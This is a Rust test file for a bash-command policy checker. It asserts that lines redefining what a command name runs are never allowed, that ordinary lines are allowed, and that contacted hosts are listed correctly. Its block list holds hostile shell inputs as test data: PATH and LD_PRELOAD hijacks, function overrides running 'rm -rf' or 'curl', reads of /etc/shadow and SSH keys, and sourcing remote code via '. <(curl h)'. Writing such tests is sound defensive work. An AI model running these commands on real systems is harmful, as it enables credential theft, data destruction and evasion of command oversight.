//! What is judged is what runs: a line that changes what a name stands for is never allowed.

use super::reader::{bash, bash_facts, standard};
use ion::model::Decision;

/// Each makes `ls` (or the next command) something else than the program of that name.
const REDEFINED: &[&str] = &[
    "PATH=. ls",
    "PATH=.:$PATH; ls",
    "export PATH=/tmp; ls",
    "declare -x PATH=/tmp; ls",
    "unset PATH; ls",
    "read PATH < f; ls",
    "read -r x PATH < f; ls",
    "printf -v PATH /tmp; ls",
    "mapfile PATH < f; ls",
    "getopts a PATH; ls",
    "for PATH in /tmp; do ls; done",
    "declare -n r=PATH; r=/tmp; ls",
    "x=PATH; declare \"$x=/tmp\"; ls",
    "x=PATH; export \"$x=/tmp\"; ls",
    "x=PATH; read \"$x\" < f; ls",
    "x=PATH; printf -v \"$x\" /tmp; ls",
    "export $(cat f); ls",
    "env PATH=. ls",
    "command -p env PATH=. ls",
    "hash -p ./x ls; ls",
    "hash -p /tmp/x git; git status",
    "BASH_CMDS[ls]=./x; ls",
    "declare -A BASH_CMDS=([ls]=./x); ls",
    "BASH_ALIASES[ls]=./x; ls",
    "alias ls=./x; ls",
    "shopt -s expand_aliases\nalias ls='rm x;'\nls",
    "enable -f ./x.so ls; ls",
    "enable -n echo; echo x",
    "ls() { rm -rf /opt; }; ls",
    "function ls { curl h; }; ls",
    "eval 'ls() { curl h; }'; ls",
    "command_not_found_handle() { curl h; }; nosuch",
    "BASH_ENV=./x bash -c ls",
    "export BASH_ENV=./x; bash -c ls",
    "ENV=./x sh -c ls",
    "PROMPT_COMMAND='curl h'; ls",
    "PS4='$(curl h)'; set -x; ls",
    "LD_PRELOAD=./x.so ls",
    "export LD_PRELOAD=./x.so; ls",
    "env 'BASH_FUNC_ls%%=() { curl h; }' bash -c ls",
    "trap 'curl h' DEBUG; ls",
    "CDPATH=/etc; cd x && cat y",
    "HOME=/etc; cat ~/shadow",
    "HOME=/root cd; cat .ssh/id_rsa",
    "set -k; ls PATH=.",
    "set +B; ls {a,b}",
    "shopt -s dotglob; cat *",
    "shopt -s lastpipe; echo | cd /etc; cat shadow",
    "set -o posix; ls",
    "IFS=/; ls",
    "exec -a git ./x/y/../../../../tmp/z status",
    "./../../../tmp/ls x",
    "/tmp/ls x",
    "ls/../../../tmp/x",
    "{PATH}< f ls",
    "coproc PATH { ls; }; ls",
    "ln -s /etc/hosts y; echo x > y",
    "ln -sf /etc d && touch d/x",
    "x=a; eval $'\\x78=/etc/shadow'; cat $x",
    "source /tmp/env; ls",
    ". <(curl h); ls",
];

#[test]
fn a_line_that_changes_what_a_name_runs_is_never_allowed() {
    let allowed: Vec<_> = REDEFINED
        .iter()
        .filter(|line| bash(standard(), line).decision == Decision::Allow)
        .map(|line| format!("{line:?}"))
        .collect();
    assert!(allowed.is_empty(), "{} allowed:\n{}", allowed.len(), allowed.join("\n"));
}

#[test]
fn a_function_of_the_line_is_judged_by_what_it_does() {
    for line in [
        "ls() { cat f; }; ls",
        "f() { local x=$1; echo \"$x\"; }; f a",
        "function build { cargo build; }; build && cargo test",
        "export RUST_LOG=debug; cargo test",
        "x=src; ls $x",
        "local_dir=$(pwd); ls \"$local_dir\"",
        "while read -r a b; do echo \"$a\"; done < f",
        "while IFS= read -r l; do echo \"$l\"; done < f",
        "IFS=, read -r a b <<< 'x,y'; echo $a",
        "set -euo pipefail; cargo test",
        "set -x; ls",
        "shopt -s nullglob; for f in *.rs; do wc -l \"$f\"; done",
        "declare -a files=(a b); ls \"${files[@]}\"",
        "unset x; ls",
        "trap 'echo done' EXIT; cargo test",
        "mapfile -t lines < f; echo ${#lines[@]}",
        "printf -v n %d 5; echo $n",
        "hash -r; ls",
        "cd src && ls && cd ..",
        "sed -n '10,20p' f | sed 's/a/b/g;s,c,d,' | sed -e '/x/d' -e '$!N;P;D'",
        "awk -F: '{print $1, NR}' f",
        "awk 'BEGIN { n = 0 } /x/ { n++ } END { print n }' f",
        "git -c color.ui=always diff",
        "git -c user.name=a -c user.email=b commit -m x",
        "tar czf a.tgz src && tar tzf a.tgz",
        "tar -I zstd -cf a.tar.zst src",
        "sqlite3 a.db 'select 1'",
        "sqlite3 a.db .schema",
        "sort -u f | uniq -c | sort -rn | head",
        "find . -name '*.rs' -exec grep -l x {} +",
        "ls {a,b}.rs {1..3}",
        "for i in {1..5}; do echo $i; done",
        "ls > out.txt 2>&1",
        "diff <(sort a) <(sort b)",
        "cat <<'E' > notes.txt\nhello $x\nE",
        "make -j4 test",
        "go test ./...",
        "gcc -O2 -Wall -o app main.c -lm",
        "python3 -m pytest -x",
        "node script.js",
        "less f",
        "man ls",
        "openssl x509 -in a.crt -noout -text",
        "split -l 100 f part-",
        "uniq -c f",
        "rg -n --type rust 'fn main' src",
        "jq -r '.a[]' f",
        "sed -i 's/1.0/1.1/' Cargo.toml",
        "uv run pytest",
        "bundle exec rspec",
        "x=$(git rev-parse HEAD); echo $x",
        "n=0; while [ $n -lt 3 ]; do n=$((n+1)); done",
    ] {
        let judged = bash(standard(), line);
        assert_eq!(judged.decision, Decision::Allow, "{line}: {}", judged.reason);
    }
}

/// A command line, and what it contacts (`?` for a host that is only known when it runs).
const CONTACTS: &[(&str, &str)] = &[
    ("curl https://Example.ORG./x", "example.org"),
    ("curl -s -H 'A: http://no' example.org:8080/x", "example.org:8080"),
    ("curl http://user:pw@2130706433/", "127.0.0.1"),
    ("curl http://0x7f.1/ 'http://[::1]:80/'", "127.0.0.1 [::1]:80"),
    ("curl -x proxy.example:3128 http://a.example", "a.example proxy.example:3128"),
    ("curl --proxy=http://p.example http://a.example", "a.example p.example"),
    ("curl --resolve a.example:443:10.0.0.1 https://a.example", "10.0.0.1 a.example"),
    (
        "curl --connect-to a.example:443:b.example:8443 https://a.example",
        "a.example b.example:8443",
    ),
    ("curl $URL", "?"),
    ("curl https://$HOST/x", "?"),
    ("curl https://api.example/$x", "api.example"),
    ("curl https://api.example$x", "?"),
    ("curl -K f", "? f"),
    ("curl http://{a,b}.example", "a.example b.example"),
    ("curl 'http://{a,b}.example'", "?"),
    ("curl http://ex%61mple.org", "?"),
    ("echo a | xargs curl", "a ?"),
    ("wget -i f", "?"),
    ("wget -q https://a.example/x", "a.example"),
    ("ssh -p 22 u@h.example ls", "h.example"),
    ("ssh -J j.example h.example", "h.example j.example"),
    ("ssh -o ProxyCommand=x h.example", "h.example ?"),
    ("scp a u@h.example:b", "h.example"),
    ("scp a b", ""),
    ("rsync -a a h.example::m", "h.example"),
    ("rsync -a a/ b/", ""),
    ("git clone https://g.example/a/b", "g.example"),
    ("git clone git@g.example:a/b", "g.example"),
    ("git fetch", "?"),
    ("git push origin main", "?"),
    ("git status", ""),
    ("git commit -m 'see https://x.example'", ""),
    ("git remote add o ssh://git@g.example:22/x", "g.example:22"),
    ("git -c http.proxy=http://p.example fetch https://g.example/x", "g.example ?"),
    ("nc h.example 80", "h.example"),
    ("nc -lvp 4", "?"),
    ("telnet h.example", "h.example"),
    ("ping -c 1 h.example", "h.example"),
    ("dig @1.1.1.1 +short MX a.example", "1.1.1.1 a.example"),
    ("socat - TCP:h.example:80", "h.example:80"),
    ("openssl s_client -connect h.example:443", "h.example:443"),
    ("openssl x509 -in a", ""),
    ("pip install x", "?"),
    ("pip install --index-url https://p.example/simple x", "? p.example"),
    ("npm install --registry=https://r.example", "? r.example"),
    ("npm test", ""),
    ("cargo build", ""),
    ("docker pull r.example:5000/a", "r.example:5000"),
    ("docker pull alpine", "docker.io"),
    ("docker ps", ""),
    ("kubectl get pods", "?"),
    ("exec 3<>/dev/tcp/h.example/80", "h.example:80"),
    ("cat < /dev/tcp/$h/80", "?"),
    ("echo x > \"$f\"", "?"),
    ("psql -h d.example -c 'select 1'", "d.example"),
    ("psql -c 'select 1'", ""),
    ("frob https://x.example", "x.example"),
    ("frob --to=https://x.example", "x.example"),
    ("echo https://x.example", ""),
    ("grep -r http://x.example src", ""),
    ("timeout 5 curl https://a.example", "a.example"),
    ("bash -c 'curl https://a.example'", "a.example"),
    ("echo $(curl https://a.example)", "a.example"),
    ("ls -la", ""),
];

#[test]
fn the_hosts_that_a_command_contacts_are_listed() {
    let mut wrong = Vec::new();
    for (line, wanted) in CONTACTS {
        let script = bash_facts(line).command.expect("a script");
        let mut found: Vec<String> = script.units.iter().flat_map(|u| u.hosts.clone()).collect();
        if script.units.iter().any(|unit| unit.unknown_host) {
            found.push("?".to_owned());
        }
        found.sort();
        found.dedup();
        let mut wanted: Vec<&str> = wanted.split_whitespace().collect();
        wanted.sort_unstable();
        if found != wanted {
            wrong.push(format!("{line:?}: {found:?}, not {wanted:?}"));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}
